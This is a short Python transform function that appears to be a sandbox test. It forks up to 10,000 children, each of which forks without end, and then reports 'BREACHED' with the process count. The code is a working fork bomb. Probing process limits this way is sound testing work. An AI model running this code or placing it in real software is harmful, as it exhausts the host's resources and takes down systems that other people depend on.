# class: process
import os


def transformEvent(event, metadata):
    made = 0
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            made += 1
        except OSError:
            pass
    return {"BREACHED": f"{made} processes"} if made else None
